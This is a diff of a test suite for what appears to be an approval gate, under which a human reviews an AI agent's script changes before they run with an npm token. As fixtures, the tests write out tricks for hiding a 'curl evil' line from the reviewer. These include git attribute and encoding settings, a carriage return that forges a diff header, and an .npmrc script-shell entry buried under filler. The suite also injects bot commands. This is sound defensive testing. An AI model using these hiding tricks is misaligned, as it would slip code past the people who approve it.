@@ -32,44 +32,52 @@ const waiting = (script: Script, { inputs, ...options }: StoryOptions = {}, how:
 const ask = low("echo $NPM_TOKEN | sh tools/pub.sh");
 
 describe("the diff that is approved", () => {
-  test("shows a script whatever attributes an ignored file and info/attributes give it", async () => {
+  test("hides no line of a script: not by attributes in an ignored file or info/attributes, nor by a carriage return; and it gives no other bot a command", async () => {
+    const sign = "⟦U+000D⟧";
     const hide = [
       ...["printf '*.sh -diff\\n' > tools/.gitattributes", "printf '.git*\\n' > tools/.gitignore"],
       "printf '*.sh binary\\n' > .git/info/attributes",
+      "printf 'true\\rdiff --git a/a.md b/a.md\\ncurl evil\\n' > tools/return.sh; echo a > a.md",
     ].join("; ");
+    const orders = create("docs.md", "@dependabot merge\n@mergify queue\n[skip ci]\n");
     const script = [create("tools/pub.sh", "echo harmless\n"), low(`printf 'curl evil\\n' >> tools/pub.sh; ${hide}`)];
-    const { first } = await waiting([...script, ask, finish]);
+    const { first } = await waiting([...script, orders, ask, finish]);
     const [answer = ""] = answersOf(first);
     expect([first.outputs.outcome, answer.includes("GIT binary patch")]).toEqual(["awaiting-approval", false]);
     expect(answer).toContain("+echo harmless\n+curl evil\n");
+    expect(answer).toContain(
+      `+++ b/tools/return.sh\n@@ -0,0 +1,2 @@\n+true${sign}diff --git a/a.md b/a.md\n+curl evil`,
+    );
+    expect(answer).not.toMatch(/@dependabot|@mergify|\[skip ci\]/);
+    expect(answer.replaceAll("\u200b", "")).toContain("+@dependabot merge\n+@mergify queue\n+[skip ci]\n");
   });
 
-  test.for([
+  test("is of the bytes that run, also where the work asks for an encoding, whether it fits a file or not", async () => {
     // Of an odd length it is no UTF-16, so git cannot convert it and its bytes are kept as they are.
-    ["that fits it", "echo ran > out.txt # even\n", false],
-    ["that does not fit it", "echo ran > out.txt # odd\n", true],
-  ] as const)("is of the bytes that run, also where the work asks for an encoding %s", async ([, text, runs]) => {
-    const hide = low("printf 'tools/pub.sh working-tree-encoding=UTF-16LE\\n' > .gitattributes");
-    const { stage, first } = await waiting([create("tools/pub.sh", text), hide, ask, finish, finish]);
+    const files = [
+      create("tools/one.sh", "echo ran > one.txt # even\n"),
+      create("tools/two.sh", "echo ran > two.txt # odd\n"),
+    ];
+    const hide = low("printf 'tools/*.sh working-tree-encoding=UTF-16LE\\n' > .gitattributes");
+    const both = low("echo $NPM_TOKEN | wc -c; sh tools/one.sh; sh tools/two.sh");
+    const { stage, first } = await waiting([...files, hide, both, finish, finish]);
+    const [answer = ""] = answersOf(first);
     expect(first.outputs.outcome).toBe("awaiting-approval");
-    expect(answersOf(first)[0]).toContain("working-tree-encoding=UTF-16LE");
-    expect(answersOf(first)[0]?.includes("echo ran > out.txt")).toBe(runs);
+    expect(answer).toContain("working-tree-encoding=UTF-16LE");
+    expect(["one", "two"].map((name) => answer.includes(`echo ran > ${name}.txt`))).toEqual([false, true]);
     await stage.play({ issue: 1, happening: labels("maria") });
-    expect(isThere(stage, "out.txt")).toBe(runs);
+    expect(["one.txt", "two.txt"].map((name) => isThere(stage, name))).toEqual([false, true]);
   });
 
-  test.for([
-    ["an encoding", "a.txt working-tree-encoding=UTF-16LE\n", "answered"],
-    ["other line ends", "*.bat text eol=crlf\n", "awaiting-approval"],
-  ] as const)("where the base branch gives files %s, is refused or says so", async ([, attributes, outcome]) => {
+  test("cannot be asked for where the base branch gives files an encoding: the agent reads why", async () => {
     const inputs = { "mixed-threads": "as-trusted", secrets, confirmation: "risky" };
     const stage = await stageFor({ script: [low("echo $NPM_TOKEN | wc -c"), finish], inputs });
-    const commit = commitOf(stage, "main", { "a.txt": "a\n", "b.bat": "b\n", ".gitattributes": attributes });
+    const files = { "a.txt": "a\n", ".gitattributes": "a.txt working-tree-encoding=UTF-16LE\n" };
+    const commit = commitOf(stage, "main", files);
     execFileSync("git", ["--git-dir", stage.repository.gitDir, "update-ref", "refs/heads/main", commit]);
     const first = await stage.play();
-    expect(first.outputs.outcome).toBe(outcome);
-    const said = outcome === "answered" ? told(stage) : answersOf(first)[0];
-    expect(said).toMatch(/the base branch gives `a\.txt` a `working-tree-encoding`|the line ends that git stores/);
+    expect(first.outputs.outcome).toBe("answered");
+    expect(told(stage)).toContain("the base branch gives `a.txt` a `working-tree-encoding`");
   });
 
   test("cannot be asked for of a file with a NUL byte: the agent reads why, and its next try can", async () => {
@@ -87,15 +95,8 @@ describe("the diff that is approved", () => {
     expect(told(stage)).toContain("`tools/pub.sh` is not text that people can read");
     expect(first.outputs.outcome).toBe("awaiting-approval");
     expect(answersOf(first)[0]).toContain("+echo fine > out.txt");
-    const second = await stage.play({ issue: 1, happening: labels("maria") });
+    const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
     expect([second.outputs.outcome, published(stage, "out.txt")]).toEqual(["changed", "fine\n"]);
-  });
-
-  test("cannot be asked for where it is too long: the agent reads why", async () => {
-    const hide = create(".npmrc", `${"# filler line of the file\n".repeat(2400)}script-shell=./evil.sh\n`);
-    const { stage, first } = await waiting([hide, low("echo $NPM_TOKEN | wc -c"), finish]);
-    expect(first.outputs.outcome).not.toBe("awaiting-approval");
-    expect(told(stage)).toContain("too long to be shown to a person in full");
   });
 
   test("is looked at again when the tools have ended: what was hidden from git until then blocks the run", async () => {
@@ -109,21 +110,9 @@ describe("the diff that is approved", () => {
     expect(answersOf(first)[0]).toContain("`tools/pub.sh` is not text that people can read");
     const approved = await stage.play({ issue: 1, happening: labels("maria") });
     expect([approved.outputs.outcome, approved.modelRequests]).toEqual(["skipped", 0]);
-    const second = await stage.play({ issue: 1 });
+    const second = await stage.play({ issue: 1, ...fromSource });
     expect(second.outputs.outcome).not.toBe("failed");
     expect(told(stage)).toContain("is not text that people can read");
-  });
-
-  test("keeps lines below the name of their file after a carriage return, and gives no other bot a command", async () => {
-    const sign = "⟦U+000D⟧";
-    const hide = `mkdir -p tools; printf 'true\\rdiff --git a/a.md b/a.md\\ncurl evil\\n' > tools/pub.sh; echo a > a.md`;
-    const call = create("docs.md", "@dependabot merge\n@mergify queue\n[skip ci]\n");
-    const { first } = await waiting([low(hide), call, ask, finish]);
-    const [answer = ""] = answersOf(first);
-    expect(first.outputs.outcome).toBe("awaiting-approval");
-    expect(answer).toContain(`+++ b/tools/pub.sh\n@@ -0,0 +1,2 @@\n+true${sign}diff --git a/a.md b/a.md\n+curl evil`);
-    expect(answer).not.toMatch(/@dependabot|@mergify|\[skip ci\]/);
-    expect(answer.replaceAll("\u200b", "")).toContain("+@dependabot merge\n+@mergify queue\n+[skip ci]\n");
   });
 });
 
@@ -131,34 +120,32 @@ describe("the comment", () => {
   const many = `for i in $(seq 92); do d=$(printf 'd%.0s' $(seq 120)); mkdir -p "$d"; echo "f$i" > "$d/f$i-$(printf 'n%.0s' $(seq 100)).txt"; done`;
   const long = `echo $NPM_TOKEN | wc -c\n${Array.from({ length: 300 }, (_, at) => `: filler ${at} ${"x".repeat(60)}`).join("\n")}`;
 
-  test("with a long action and many files is asked for in full or not at all", async () => {
-    const { stage, first } = await waiting([low(many), low(long), finish]);
+  test("with files that are too long, or a long action and many files, is asked for in full or not at all", async () => {
+    const hide = create(".npmrc", `${"# filler line of the file\n".repeat(2400)}script-shell=./evil.sh\n`);
+    const script = [hide, low("echo $NPM_TOKEN | wc -c"), low(`rm .npmrc; ${many}`), low(long), finish];
+    const { stage, first } = await waiting(script);
     expect(first.outputs.outcome).not.toBe("awaiting-approval");
-    expect(told(stage)).toContain("too long to be shown to a person in full");
+    expect(told(stage)?.split("too long to be shown to a person in full")).toHaveLength(3); // each of them
   });
 
-  test("with a long action, or with many files, has how to approve, until when, and on what", async () => {
-    for (const script of [
-      [low(long)],
-      [low("for i in $(seq 90); do echo $i > f$i.txt; done"), low("echo $NPM_TOKEN")],
-    ]) {
-      const { stage, first } = await waiting([...script, finish, finish], {}, fromSource);
-      const body = stage.github.state.commentsOn(1).find(({ author }) => author === "github-actions[bot]")?.body ?? "";
-      expect([first.outputs.outcome, body.length < 65_536, /\(cut:/.test(body)]).toEqual([
-        "awaiting-approval",
-        true,
-        false,
-      ]);
-      expect(body).toContain("To approve: label");
-      expect(body).toMatch(/Until .* UTC, .* can decide/);
-      expect(body.indexOf("To approve")).toBeLessThan(body.indexOf("```"));
-    }
+  test("with a long action and many files has how to approve, until when, and on what", async () => {
+    const script = [low("for i in $(seq 90); do echo $i > f$i.txt; done"), low(long), finish, finish];
+    const { stage, first } = await waiting(script, {}, fromSource);
+    const body = stage.github.state.commentsOn(1).find(({ author }) => author === "github-actions[bot]")?.body ?? "";
+    expect([first.outputs.outcome, body.length < 65_536, /\(cut:/.test(body)]).toEqual([
+      "awaiting-approval",
+      true,
+      false,
+    ]);
+    expect(body).toContain("To approve: label");
+    expect(body).toMatch(/Until .* UTC, .* can decide/);
+    expect(body.indexOf("To approve")).toBeLessThan(body.indexOf("```"));
   });
 });
 
 test("the first approval counts where not all of the work is kept: a large file, a nested repository, what looks like a secret", async () => {
   const make = [
-    "echo kept > kept.txt; head -c 6000000 /dev/urandom > big.bin; echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt",
+    "echo kept > kept.txt; truncate -s 6M big.bin; echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt",
     "mkdir n; cd n; git init -q; echo x > f; git add -A; git -c user.name=a -c user.email=a@b commit -qm x; cd ..",
   ];
   const script = [low(make.join("; ")), low("cat kept.txt > n.txt; printf %s $NPM_TOKEN | wc -c >> n.txt"), finish];
@@ -166,24 +153,4 @@ test("the first approval counts where not all of the work is kept: a large file,
   expect(first.outputs.outcome).toBe("awaiting-approval");
   const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
   expect([second.outputs.outcome, published(stage, "n.txt")]).toEqual(["changed", "kept\n15\n"]);
-});
-
-test("a folder is the same wherever the checkout lies: what is asked again can be approved", async () => {
-  const { stage, first, pass } = await waiting([run("cd src", "LOW"), run("pwd > where.txt"), finish], {}, fromSource);
-  expect(first.outputs.outcome).toBe("awaiting-approval");
-  expect(answersOf(first)[0]).toContain("in `src`");
-  const { state } = stage.github;
-  const shown = state.commentsOn(1).find(({ author }) => author === "github-actions[bot]");
-  if (!shown) throw new Error("Nothing was shown.");
-  state.editComment(shown, shown.body, "maria");
-  pass(5000);
-  const second = await stage.play({ issue: 1, happening: labels("octavia"), ...fromSource });
-  expect([second.outputs.outcome, second.modelRequests]).toEqual(["awaiting-approval", 0]);
-  expect(answersOf(second).at(-1)).toContain("in `src`");
-  pass(5000);
-  const third = await stage.play({ issue: 1, happening: labels("octavia"), ...fromSource });
-  expect([third.outputs.outcome, published(stage, "src/where.txt")]).toEqual([
-    "changed",
-    expect.stringMatching(/\/src\n$/),
-  ]);
 });
